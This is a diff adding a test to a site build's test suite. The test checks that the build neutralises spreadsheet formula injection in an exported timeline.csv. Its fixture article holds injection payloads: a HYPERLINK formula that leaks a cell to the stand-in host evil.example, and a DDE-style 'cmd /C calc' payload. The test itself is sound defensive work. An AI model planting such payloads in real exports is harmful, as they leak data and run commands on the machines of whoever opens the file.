@@ -69,6 +69,23 @@ const arabic = [
   'Diplomats met in Cairo on November 1, officials said.',
   '',
 ].join('\n');
+/**
+ * Formulas where a spreadsheet would run them: first in the title, the
+ * outlet, the byline and a claim's sentence (timeline.csv must write them as
+ * text).
+ */
+const formulas = [
+  '---',
+  'title: "=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Open\\")"',
+  'published: 2024-11-05',
+  'outlet: "@SUM(1+1)*cmd|\' /C calc\'!A0"',
+  'author: "+1+1"',
+  '---',
+  '',
+  '=1+2 was written on a placard in Kursk on October 28, officials said.',
+  '',
+].join('\n');
+
 /** The records of an RFC 4180 text (quoted fields, doubled quotes, CRLF); throws on a stray quote. */
 function parseCsv(text: string): string[][] {
   const records: string[][] = [];
@@ -113,6 +130,7 @@ beforeAll(async () => {
   writeFileSync(path.join(project.dir, 'content/articles/hostile-wire.md'), hostile);
   writeFileSync(path.join(project.dir, 'content/articles/invisible-wire.md'), invisible);
   writeFileSync(path.join(project.dir, 'content/articles/arabic-byline.md'), arabic);
+  writeFileSync(path.join(project.dir, 'content/articles/formula-wire.md'), formulas);
   const result = await project.build();
   expect(result.code, result.output).toBe(0);
   server = await serveDist(dist);
@@ -214,6 +232,18 @@ describe('hostile content', () => {
     for (const record of records) expect(record).toHaveLength(records[0]!.length);
     expect(records.some((record) => record.includes(`Hostile ${ATTACK} wire`))).toBe(true);
     expect(FORBIDDEN.test(readFileSync(path.join(dist, 'timeline.csv'), 'utf8'))).toBe(false);
+  });
+
+  it('writes no timeline.csv field that a spreadsheet would run as a formula, and keeps the words after a quote', () => {
+    const records = parseCsv(readFileSync(path.join(dist, 'timeline.csv'), 'utf8'));
+    const fields = records.flat();
+    expect(fields.filter((field) => /^\s*[=+\-@]|^[\t\r]/.test(field))).toEqual([]);
+    const rows = records.filter((record) => record.includes("'@SUM(1+1)*cmd|' /C calc'!A0"));
+    expect(rows.length).toBeGreaterThan(0);
+    expect(rows[0]).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Open")`);
+    expect(
+      rows.some((row) => row.includes("'=1+2 was written on a placard in Kursk on October 28, officials said.")),
+    ).toBe(true);
   });
 
   it('writes the feed as well-formed XML with the markup escaped', async () => {
